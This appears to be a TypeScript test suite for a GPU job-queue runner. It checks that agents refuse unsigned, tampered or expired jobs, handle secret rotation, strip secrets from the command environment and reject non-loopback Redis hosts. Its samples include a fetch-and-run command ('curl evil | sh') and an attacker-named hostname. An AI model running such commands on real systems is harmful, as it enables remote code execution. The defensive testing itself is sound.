/** Signed jobs: an agent with a secret never runs a job that is unsigned, wrongly signed or expired. */
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { canonicalJson, RedisKeys, signatureProblem, signJob, PAYLOAD_VERSION, type TaskJobData } from '@sweep-runner/shared';
import { Queue } from 'bullmq';
import { useAgents } from './helpers/agents.js';
import { coord, waitFor } from './helpers/cli.js';
import { useRedis } from './helpers/redis-server.js';
import { useTempDirs } from './helpers/temp-dir.js';

const redis = useRedis();
const startAgent = useAgents();
const tempDir = useTempDirs();

const SECRET = 'a-secret-of-at-least-16-chars-0001';
const OLD_SECRET = 'the-previous-secret-still-valid-02';

function job(marker: string): TaskJobData {
  return {
    v: PAYLOAD_VERSION,
    sweepId: 'handmade',
    taskId: 'handmade-task',
    force: false,
    task: {
      name: 'X_1',
      outputRoot: 'output',
      output: 'output/X_1',
      paramDir: true,
      datetime: '20260101.000000',
      params: { x: 1 },
      commands: [{ name: 'run', script: `touch ${marker}` }],
      settings: { gpus: 1, pool: 'default', priority: 0, retries: 0 },
    },
  };
}

describe('signing', () => {
  it('signs over a canonical encoding and detects any change', () => {
    expect(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }] })).toBe('{"a":[{"c":3,"d":2}],"b":1}');
    const signed = signJob(job('/tmp/x'), SECRET);
    expect(signatureProblem(signed, [SECRET])).toBeUndefined();
    expect(signatureProblem(signed, ['another-secret-entirely-000'])).toBe('bad signature');
    const tampered = { ...signed, task: { ...signed.task, commands: [{ name: 'run', script: 'curl evil | sh' }] } };
    expect(signatureProblem(tampered, [SECRET])).toBe('bad signature');
    expect(signatureProblem({ ...signed, task: { ...signed.task, settings: { ...signed.task.settings, gpus: 8 } } }, [SECRET])).toBe('bad signature');
    expect(signatureProblem(signJob(job('/tmp/x'), SECRET, -1), [SECRET])).toBe('bad signature (expired)');
    expect(signatureProblem(job('/tmp/x'), [SECRET])).toBe('bad signature (the job is not signed)');
  });

  it('never runs a job pushed into the queue by hand, and shows it as rejected', async () => {
    const dir = tempDir();
    const marker = join(dir, 'pwned');
    const agent = await startAgent(redis().url, ['--gpus', '0', '--prefix', 'signed'], { workdir: join(dir, 'w'), env: { RUNNER_SECRET: SECRET } });
    const queue = new Queue('tasks.default.1g', { connection: { port: redis().port }, prefix: 'signed' });
    try {
      const pushed = await queue.add('task', job(marker), { jobId: 'evil-1' });
      await waitFor(async () => (await pushed.getState()) === 'failed', 10_000, 'the job to be refused');
      const refused = await queue.getJob('evil-1');
      expect(refused!.failedReason).toBe('rejected: bad signature (the job is not signed)');
      // Signed, but for another pool: copied into this queue by hand (under its real job's id), it is
      // refused too; the task is left to its real job, not marked rejected.
      const taskKey = new RedisKeys('signed').task('handmade-task');
      await redis().client().hset(taskKey, { state: 'waiting', job: 'moved-1', sweep: 'handmade', index: '0', name: 'X_1' });
      const elsewhere = job(marker);
      const moved = await queue.add('task', signJob({ ...elsewhere, task: { ...elsewhere.task, settings: { ...elsewhere.task.settings, pool: 'secure' } } }, SECRET), { jobId: 'moved-1' });
      await waitFor(async () => (await moved.getState()) === 'failed', 10_000, 'the moved job to be refused');
      expect((await queue.getJob('moved-1'))!.failedReason).toBe('rejected: found in queue tasks.default.1g, but queued for tasks.secure.1g');
      expect(await redis().client().hmget(taskKey, 'state', 'reason')).toEqual(['waiting', null]);
    } finally {
      await queue.close();
    }
    expect(existsSync(marker)).toBe(false);
    expect(agent.logs().some((entry) => entry.msg === 'refusing a job' && entry.job === 'evil-1')).toBe(true);
  });

  it('runs jobs signed with a current or previous secret; rejects other secrets and shows it', async () => {
    const dir = tempDir();
    const prefix = 'rotation';
    const secretFile = join(dir, 'secrets');
    writeFileSync(secretFile, `${SECRET}\n${OLD_SECRET}\n`);
    chmodSync(secretFile, 0o600);
    writeFileSync(join(dir, 'params.yaml'), 'template:\n  run: echo ran {x}\n---\nx: [1]\n');
    writeFileSync(join(dir, 'other.yaml'), 'template:\n  run: echo ran {y}\n---\ny: [1]\n');
    writeFileSync(join(dir, 'third.yaml'), 'template:\n  run: echo ran {z}\n---\nz: [1]\n');
    await startAgent(redis().url, ['--gpus', '0', '--prefix', prefix, '--secret-file', secretFile], { workdir: join(dir, 'w') });
    const cli = ['--redis', redis().url, '--prefix', prefix, '--json'];
    const submit = async (file: string, secret: string) =>
      (JSON.parse((await coord(['submit', file, ...cli], { cwd: dir, env: { RUNNER_SECRET: secret } })).stdout) as { sweep: string }).sweep;
    const current = await submit('params.yaml', SECRET);
    const previous = await submit('other.yaml', OLD_SECRET);
    const forged = await submit('third.yaml', 'someone-elses-secret-000000000');
    const state = async (sweep: string) =>
      (JSON.parse((await coord(['status', sweep, ...cli])).stdout) as { tasks: Array<{ state: string; reason: string | null }> }).tasks[0]!;
    await waitFor(async () => (await state(current)).state === 'succeeded' && (await state(previous)).state === 'succeeded' && (await state(forged)).state === 'failed', 20_000, 'all three');
    expect((await state(forged)).reason).toBe('rejected: bad signature');
    expect(existsSync(join(dir, 'w', 'output', 'Z_1'))).toBe(false);
    // Its job data went with the rejection: asked for and not retried is a failure, not "requeued 0".
    const notRetried = await coord(['retry', forged, ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } });
    expect([notRetried.code, JSON.parse(notRetried.stdout)]).toEqual([1, { sweep: forged, requeued: 0, notRetried: ['Z_1'], notSigned: [] }]);
    expect(notRetried.stderr).toBe('coord: 1 task not retried: the job data is gone (resubmit the sweep file instead): Z_1\n');

    // A retry of a signed sweep without the secret would queue jobs every agent rejects: refused.
    writeFileSync(join(dir, 'flaky.yaml'), `template:\n  run: test -e ${dir}/ran-once || { touch ${dir}/ran-once; exit 1; }\n---\nf: [1]\n`);
    const flaky = await submit('flaky.yaml', SECRET);
    await waitFor(async () => (await state(flaky)).state === 'failed', 20_000, 'the first run to fail');
    const unsigned = await coord(['retry', flaky, ...cli], { cwd: dir });
    expect(unsigned.code).toBe(2);
    expect(unsigned.stderr.trim()).toBe(`coord: sweep ${flaky} was submitted with a job secret, and agents that have one refuse unsigned jobs: retry where that secret is set (RUNNER_SECRET or --secret-file): coord retry ${flaky}, or from a coord dashboard started with it`);
    expect((await state(flaky)).state).toBe('failed');
    const signed = await coord(['retry', flaky, ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } });
    expect(JSON.parse(signed.stdout), signed.stderr).toMatchObject({ requeued: 1 });
    await waitFor(async () => (await state(flaky)).state === 'succeeded', 20_000, 'the retried task to run');
  });

  it('retries only job data it signed: data changed in Redis since is not signed anew; a signed sweep record is acted on', async () => {
    const dir = tempDir();
    const prefix = 'tamper';
    const agent = await startAgent(redis().url, ['--gpus', '0', '--prefix', prefix], { workdir: join(dir, 'w'), env: { RUNNER_SECRET: SECRET } });
    const cli = ['--redis', redis().url, '--prefix', prefix, '--json'];
    writeFileSync(join(dir, 'params.yaml'), 'template:\n  run: echo ran {f}; exit 1\n---\n_title: t\nf: [1]\n');
    const { sweep } = JSON.parse((await coord(['submit', 'params.yaml', '-t', 't', ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } })).stdout) as { sweep: string };
    const state = async () => (JSON.parse((await coord(['status', sweep, ...cli])).stdout) as { tasks: Array<{ state: string }> }).tasks[0]!.state;
    await waitFor(async () => (await state()) === 'failed', 20_000, 'the task to fail');
    // The record the sweep's tasks were run with verified: the agent copied the sweep file, as local mode does.
    expect(existsSync(join(dir, 'w', 'output', 'params.yaml.t'))).toBe(true);
    expect(agent.logs().filter((entry) => String(entry.msg).includes('not signed'))).toEqual([]);

    // Someone with access to Redis rewrites the command kept for a retry.
    const client = redis().client();
    const [taskId] = await client.zrange(new RedisKeys(prefix).sweepState(sweep, 'failed'), 0, -1);
    const taskKey = new RedisKeys(prefix).task(taskId!);
    const marker = join(dir, 'pwned');
    await client.hset(taskKey, 'spec', (await client.hget(taskKey, 'spec'))!.replace('echo ran 1; exit 1', `touch ${marker}`));
    const retried = await coord(['retry', sweep, ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } });
    expect([retried.code, JSON.parse(retried.stdout)]).toEqual([1, { sweep, requeued: 0, notRetried: [], notSigned: ['F_1'] }]);
    expect(retried.stderr).toBe(
      "coord: 1 task not retried: its kept job data is not this task's as our job secret signed it (kept by an agent or coord older than 2026-12-07, which dropped the signature; queued without a secret; or changed in Redis since); resubmit the sweep file instead: F_1\n",
    );
    expect(await state()).toBe('failed');
    expect(existsSync(marker)).toBe(false);

    // Signed data of another task, copied in, would move the retry to that task and sweep: refused alike.
    writeFileSync(join(dir, 'other.yaml'), 'template:\n  run: echo other {g}; exit 1\n---\ng: [1]\n');
    const other = (JSON.parse((await coord(['submit', 'other.yaml', ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } })).stdout) as { sweep: string }).sweep;
    const [otherId] = await waitFor(async () => {
      const ids = await client.zrange(new RedisKeys(prefix).sweepState(other, 'failed'), 0, -1);
      return ids.length > 0 ? ids : undefined;
    }, 20_000, 'the other task to fail');
    await client.hset(taskKey, 'spec', (await client.hget(new RedisKeys(prefix).task(otherId!), 'spec'))!);
    const moved = await coord(['retry', sweep, ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } });
    expect([moved.code, JSON.parse(moved.stdout)]).toEqual([1, { sweep, requeued: 0, notRetried: [], notSigned: ['F_1'] }]);
    expect(await client.zcard(new RedisKeys(prefix).sweepState(other, 'waiting'))).toBe(0);
  });

  it('runs commands without the job secret and the Redis URL in their environment, whatever they print', async () => {
    const dir = tempDir();
    const prefix = 'environment';
    await startAgent(redis().url, ['--gpus', '0', '--prefix', prefix], { workdir: join(dir, 'w'), env: { RUNNER_SECRET: SECRET, REDIS_URL: redis().url, KEPT: 'yes' } });
    const cli = ['--redis', redis().url, '--prefix', prefix, '--json'];
    writeFileSync(join(dir, 'params.yaml'), 'template:\n  run: env | grep -E "^(RUNNER_SECRET|REDIS_URL|KEPT)=" | sort; echo {x}\n---\nx: [1]\n');
    const { sweep } = JSON.parse((await coord(['submit', 'params.yaml', ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } })).stdout) as { sweep: string };
    const state = async () => (JSON.parse((await coord(['status', sweep, ...cli])).stdout) as { tasks: Array<{ state: string }> }).tasks[0]!.state;
    await waitFor(async () => (await state()) === 'succeeded', 20_000, 'the task to run');
    const logs = await coord(['logs', 'X_1', ...cli], { cwd: dir });
    expect(logs.stdout.split('\n').filter(Boolean).map((line) => (JSON.parse(line) as { line: string }).line).slice(1)).toEqual(['KEPT=yes', '1', '--- succeeded (exit 0) ---']);
  });

  it('refuses an unsigned submission that a running agent with a job secret would take and reject, queuing nothing', async () => {
    const dir = tempDir();
    const prefix = 'unsigned-submit';
    const secretFile = join(dir, 'secrets');
    writeFileSync(secretFile, `${SECRET}\n`);
    chmodSync(secretFile, 0o600);
    writeFileSync(join(dir, 'params.yaml'), 'template:\n  run: echo ran {x}\n---\nx: [1, 2]\n');
    writeFileSync(join(dir, 'elsewhere.yaml'), 'template:\n  run: echo ran {x}\npool: other\n---\nx: [1]\n');
    const agent = await startAgent(redis().url, ['--gpus', '0', '--prefix', prefix, '--secret-file', secretFile], { workdir: join(dir, 'w') });
    const cli = ['--redis', redis().url, '--prefix', prefix];
    const unsigned = await coord(['submit', 'params.yaml', ...cli], { cwd: dir });
    expect([unsigned.code, unsigned.stderr]).toEqual([2, `coord: agent ${agent.name} takes only jobs signed with a job secret, and this submission has none: submit with the agents' secret (RUNNER_SECRET or --secret-file); nothing was submitted\n`]);
    const sweeps = async () => (JSON.parse((await coord(['status', '--json', ...cli])).stdout) as { sweeps: unknown[] }).sweeps;
    expect(await sweeps()).toEqual([]);
    // A pool that agent does not serve is no business of its secret: queued, to wait for its own agents.
    expect((await coord(['submit', 'elsewhere.yaml', ...cli], { cwd: dir })).code).toBe(0);
    const signed = await coord(['submit', 'params.yaml', '--json', ...cli], { cwd: dir, env: { RUNNER_SECRET: SECRET } });
    expect(signed.code, signed.stderr).toBe(0);
    expect(await sweeps()).toHaveLength(2);
  });

  it('refuses a secret file others can read, and an agent without a secret on a remote Redis', async () => {
    const dir = tempDir();
    const secretFile = join(dir, 'secret');
    writeFileSync(secretFile, SECRET);
    chmodSync(secretFile, 0o644);
    const { runCli, AGENT } = await import('./helpers/cli.js');
    const loose = await runCli(AGENT, ['--gpus', '0', '--secret-file', secretFile, '--redis', redis().url]);
    expect(loose.code).toBe(2);
    expect(loose.stderr).toContain(`chmod 600 ${secretFile}`);
    // An address that is not this machine (and routes nowhere); the agent refuses before connecting.
    const remote = await runCli(AGENT, ['--gpus', '0', '--redis', `redis://10.255.255.1:${redis().port}`]);
    expect(remote.code).toBe(2);
    // The placeholder of .env.example, left in: refused like a short secret.
    const placeholder = await runCli(AGENT, ['--gpus', '0', '--redis', redis().url], { env: { RUNNER_SECRET: 'change-me-job-secret' } });
    expect(placeholder.code).toBe(2);
    expect(placeholder.stderr.trim()).toBe('agent: the job secret is still the placeholder "change-me-job-secret" (.env.example): generate one with: openssl rand -hex 32');
    expect(remote.stderr).toMatch(/is not a loopback address \(127.0.0.1, ::1, localhost\), so it may be reached from other machines.*RUNNER_SECRET.*--insecure/);
    // A name that merely starts like a loopback address is whatever its DNS says: refused alike.
    const named = await runCli(AGENT, ['--gpus', '0', '--redis', `redis://127.attacker.example:${redis().port}`]);
    expect([named.code, named.stderr]).toEqual([2, expect.stringContaining('Redis at 127.attacker.example is not a loopback address')]);
  });
});
